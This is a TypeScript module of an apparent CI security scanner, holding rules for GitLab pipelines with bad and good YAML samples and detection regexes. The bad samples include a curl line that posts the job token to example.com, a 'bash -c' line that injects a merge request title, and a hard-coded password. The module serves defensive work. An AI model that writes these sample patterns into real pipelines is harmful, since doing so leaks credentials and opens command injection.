import type { Rule } from '@bartizan/model'
import {
  asMapping,
  asScalar,
  at,
  entriesOf,
  items,
  resolve,
  textOf,
  type YamlEntry,
  type YamlNode,
} from '@bartizan/syntax/yaml'
import type { PipelineHit } from '../check.ts'
import { pipelineRule } from '../rules/define.ts'
import { gitlabJobs } from './jobs.ts'

/** A rule over a GitLab pipeline, with its samples. */
export interface GitlabCheck {
  readonly rule: Rule
  readonly bad: readonly string[]
  readonly good: readonly string[]
  find(root: YamlNode): Iterable<PipelineHit>
}

type Spec = Parameters<typeof pipelineRule>[0] & { readonly bad: readonly string[]; readonly good: readonly string[] }

function check(spec: Spec, find: (root: YamlNode) => Iterable<PipelineHit>): GitlabCheck {
  const { bad, good, ...rule } = spec
  return { rule: pipelineRule(rule, 'gitlab-ci'), bad, good, find }
}

const job = (lines: string): string =>
  `build:\n  image: alpine@sha256:0123456789012345678901234567890123456789012345678901234567890123\n${lines
    .split('\n')
    .map((line) => `  ${line}`)
    .join('\n')}\n`

/** Images and services of the whole file and of its jobs. */
function* imagesIn(root: YamlNode): Iterable<{ node: YamlNode; image: string; owner: string }> {
  const holders: (readonly [string, YamlNode])[] = [
    ['', root],
    ...gitlabJobs(root).map(({ name, node }) => [name, node] as const),
  ]
  for (const [owner, holder] of holders) {
    const image = at(holder, 'image')
    const named = textOf(image) === undefined ? at(image, 'name') : image
    const services = items(at(holder, 'services')).map((item) => (textOf(item) === undefined ? at(item, 'name') : item))
    for (const node of [named, ...services]) {
      const text = textOf(node)
      if (node !== undefined && text !== undefined) yield { node, image: text, owner }
    }
  }
}

/** Variables whose text whoever opens a merge request chooses. */
const chosen =
  /\$\{?(CI_MERGE_REQUEST_(TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS|MILESTONE)|CI_COMMIT_(MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG_MESSAGE|AUTHOR)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME)\b/
const code = /\b(eval|sh -c|bash -c|python3? -c|node -e|ruby -e|perl -e|xargs)\b/

const secretName = /(password|passwd|secret|token|api_?key|private_?key|credential)s?$/i
const harmless = /^$|^\$|^(true|false|yes|no|\d{1,5})$|^\/|^<|changeme|example/i

function variables(root: YamlNode): { name: string; entry: YamlEntry; owner: string }[] {
  const holders: (readonly [string, YamlNode])[] = [
    ['', root],
    ...gitlabJobs(root).map(({ name, node }) => [name, node] as const),
  ]
  return holders.flatMap(([owner, holder]) =>
    [...entriesOf(at(holder, 'variables'))].map(([name, entry]) => ({ name, entry, owner })),
  )
}

/** The items of `include`, however it is written. */
function includes(root: YamlNode): readonly YamlNode[] {
  const node = at(root, 'include')
  if (node === undefined) return []
  return resolve(node)?.kind === 'sequence' ? items(node) : [node]
}

export const gitlabChecks: readonly GitlabCheck[] = [
  check(
    {
      name: 'gitlab-remote-include',
      title: 'Pipeline includes a file from the internet',
      why: 'Whoever controls the address decides what every job runs, with all its variables.',
      remedy: 'Include from a project at a fixed commit, or copy the file; set `integrity` on remote includes.',
      severity: 'medium',
      weakness: 'CWE-829',
      aliases: 'gitlab_remote_include',
      about: 'dependencies',
      bad: ['include:\n  - remote: https://example.com/ci.yml\n'],
      good: [
        'include:\n  - local: /ci/build.yml\n  - project: group/ci\n    ref: 0123456789abcdef0123456789abcdef01234567\n    file: /a.yml\n',
      ],
    },
    function* find(root) {
      for (const item of includes(root)) {
        const text = textOf(item)
        const remote = text !== undefined && /^https?:\/\//.test(text) ? item : at(item, 'remote')
        if (remote === undefined || at(item, 'integrity') !== undefined) continue
        yield {
          at: remote,
          message: `${textOf(remote)} decides what every job runs. Include from a project at a fixed commit.`,
          identity: ['remote', textOf(remote) ?? ''],
        }
      }
    },
  ),
  check(
    {
      name: 'gitlab-unpinned-include',
      title: 'Pipeline includes a project without a fixed commit',
      why: 'What is included changes unseen when the other project changes.',
      remedy: 'Set `ref` to a commit.',
      severity: 'low',
      weakness: 'CWE-1357',
      aliases: 'unpinned-include',
      about: 'dependencies',
      bad: [
        'include:\n  - project: group/ci\n    file: /a.yml\n',
        'include:\n  - component: gitlab.com/group/ci/build@~latest\n',
      ],
      good: [
        'include:\n  - project: group/ci\n    ref: 0123456789abcdef0123456789abcdef01234567\n    file: /a.yml\n  - component: gitlab.com/group/ci/build@1.2.3\n',
      ],
    },
    function* find(root) {
      for (const item of includes(root)) {
        const project = at(item, 'project')
        const ref = at(item, 'ref')
        const component = asScalar(at(item, 'component'))
        if (project !== undefined && !/^[0-9a-f]{40}$/.test(textOf(ref) ?? ''))
          yield {
            at: ref ?? project,
            message: `${textOf(project)} is included without a fixed commit. Set \`ref\`.`,
            identity: ['project', textOf(project) ?? ''],
          }
        if (component !== undefined && !/@(\d+\.\d+\.\d+|[0-9a-f]{40})$/.test(component.text))
          yield {
            at: component,
            message: `${component.text} is included without a fixed version. Name one.`,
            identity: ['component', component.text],
          }
      }
    },
  ),
  check(
    {
      name: 'gitlab-image',
      title: 'Job runs in an image without a fixed version',
      why: 'The image behind the name changes unseen, and everything in the job runs inside it.',
      remedy: 'Pin the image by digest.',
      severity: 'low',
      weakness: 'CWE-1357',
      aliases: 'CKV_GITLABCI_3 unpinned-images',
      about: 'dependencies',
      bad: ['image: alpine:3.20\nbuild:\n  script: make\n'],
      good: [job('script: make')],
    },
    function* find(root) {
      for (const { node, image, owner } of imagesIn(root)) {
        if (image.includes('@sha256:') || image.includes('$')) continue
        const tag = image.slice(image.lastIndexOf('/') + 1).split(':')[1]
        const moving = tag === undefined || tag === 'latest'
        yield {
          at: node,
          severity: moving ? 'medium' : 'low',
          message: `${image} can be replaced under its name. Pin it by digest.`,
          identity: [owner, image],
        }
      }
    },
  ),
  check(
    {
      name: 'gitlab-script-injection',
      title: 'Text of a merge request becomes part of a command',
      why: 'Whoever opens a merge request chooses its title and branch name; in an interpreted text they become code.',
      remedy: 'Pass the value as an argument or by the environment, never inside the code.',
      severity: 'high',
      confidence: 'medium',
      weakness: 'CWE-94',
      aliases: 'injection',
      about: 'injection',
      bad: [job('script:\n  - bash -c "echo $CI_MERGE_REQUEST_TITLE"')],
      good: [job('script:\n  - echo "$CI_MERGE_REQUEST_TITLE"')],
    },
    function* find(root) {
      for (const { name, scripts } of gitlabJobs(root)) {
        for (const line of scripts) {
          const text = textOf(line) ?? ''
          const found = text.split('\n').find((one) => chosen.test(one) && code.test(one))
          if (found !== undefined)
            yield {
              at: line,
              message: `${chosen.exec(found)?.[0] ?? ''} is chosen by whoever opens a merge request, and is run as code here. Pass it as an argument.`,
              identity: [name, found.trim()],
            }
        }
      }
    },
  ),
  check(
    {
      name: 'gitlab-token-sent-out',
      title: 'Job sends its token to the outside',
      why: 'Whoever receives it acts with the rights of the job.',
      remedy: 'Send it to GitLab only.',
      severity: 'high',
      confidence: 'medium',
      weakness: 'CWE-200',
      aliases: 'CKV_GITLABCI_1',
      about: 'secrets',
      bad: [job('script:\n  - curl -d "t=$CI_JOB_TOKEN" https://example.com')],
      good: [job('script:\n  - curl -fsSL https://example.com/a -o a')],
    },
    function* find(root) {
      for (const { name, scripts } of gitlabJobs(root)) {
        for (const line of scripts) {
          const found = (textOf(line) ?? '')
            .split('\n')
            .find(
              (one) =>
                /\b(curl|wget)\b/.test(one) &&
                /\$\{?(CI_JOB_TOKEN|CI_JOB_JWT\w*|CI_DEPLOY_PASSWORD|CI_REGISTRY_PASSWORD)\b/.test(one) &&
                !/\$\{?(CI_API_V4_URL|CI_SERVER_URL|CI_SERVER_HOST|CI_REGISTRY)\b|gitlab/i.test(one),
            )
          if (found !== undefined)
            yield {
              at: line,
              message: 'The token of the job goes to another server. Send it to GitLab only.',
              identity: [name, found.trim()],
            }
        }
      }
    },
  ),
  check(
    {
      name: 'gitlab-variable-secret',
      title: 'Credential in the variables of a pipeline',
      why: 'Everyone who can read the repository has it.',
      remedy: 'Use a masked and protected variable of the project, and renew the credential.',
      severity: 'high',
      confidence: 'medium',
      weakness: 'CWE-798',
      aliases: '',
      about: 'secrets',
      bad: ['variables:\n  DB_PASSWORD: s3cr3t-Value\n'],
      good: ['variables:\n  DB_PASSWORD: $PROJECT_DB_PASSWORD\n  TOKEN: ""\n'],
    },
    function* find(root) {
      for (const { name, entry, owner } of variables(root)) {
        const text = textOf(entry.value) ?? textOf(at(entry.value, 'value')) ?? ''
        if (!secretName.test(name) || harmless.test(text)) continue
        yield {
          at: entry,
          message: `${name} is written in the pipeline. Use a masked variable of the project, and renew it.`,
          identity: [owner, name],
        }
      }
    },
  ),
  check(
    {
      name: 'gitlab-debug-trace',
      title: 'Job prints all its variables',
      why: 'The trace holds every secret, and whoever sees the log has it.',
      remedy: 'Remove CI_DEBUG_TRACE.',
      severity: 'high',
      weakness: 'CWE-532',
      aliases: 'debug_enabled',
      about: 'secrets',
      bad: ['variables:\n  CI_DEBUG_TRACE: "true"\n'],
      good: ['variables:\n  CI_DEBUG_TRACE: "false"\n'],
    },
    function* find(root) {
      for (const { name, entry, owner } of variables(root)) {
        if (!['CI_DEBUG_TRACE', 'CI_DEBUG_SERVICES'].includes(name) || !/^(true|1)$/i.test(textOf(entry.value) ?? ''))
          continue
        yield {
          at: entry,
          message: `${name} prints every variable into the log, secrets included. Remove it.`,
          identity: [owner, name],
        }
      }
    },
  ),
  check(
    {
      name: 'gitlab-double-pipeline',
      title: 'Job runs twice for one change',
      why: 'A rule for pushes and one for merge requests start two pipelines, of which one may skip the checks of the other.',
      remedy: 'Use `workflow: rules` to choose one of them.',
      severity: 'info',
      confidence: 'low',
      aliases: 'CKV_GITLABCI_2',
      about: 'hygiene',
      bad: [
        job(
          "script: make\nrules:\n  - if: $CI_PIPELINE_SOURCE == 'merge_request_event'\n  - if: $CI_PIPELINE_SOURCE == 'push'",
        ),
      ],
      good: [job("script: make\nrules:\n  - if: $CI_PIPELINE_SOURCE == 'merge_request_event'")],
    },
    function* find(root) {
      if (at(root, 'workflow', 'rules') !== undefined) return
      for (const { name, node, key } of gitlabJobs(root)) {
        const rules = entriesOf(node).get('rules')
        const texts = items(rules?.value).map((rule) => textOf(at(rule, 'if')) ?? '')
        const push = texts.some((text) => /CI_PIPELINE_SOURCE\s*==\s*['"]push['"]/.test(text))
        const merge = texts.some((text) => /CI_PIPELINE_SOURCE\s*==\s*['"]merge_request_event['"]/.test(text))
        if (push && merge)
          yield {
            at: rules?.key ?? key,
            message: `The job ${name} runs for the push and again for the merge request. Choose one with \`workflow: rules\`.`,
            identity: [name],
          }
      }
    },
  ),
]

/** True when a file is a GitLab pipeline by its content. */
export function looksLikeGitlab(root: YamlNode): boolean {
  if (asMapping(root) === undefined) return false
  return [...entriesOf(root)].some(
    ([name, entry]) =>
      ['stages', 'include', 'variables', 'image', 'workflow'].includes(name) || at(entry.value, 'script') !== undefined,
  )
}
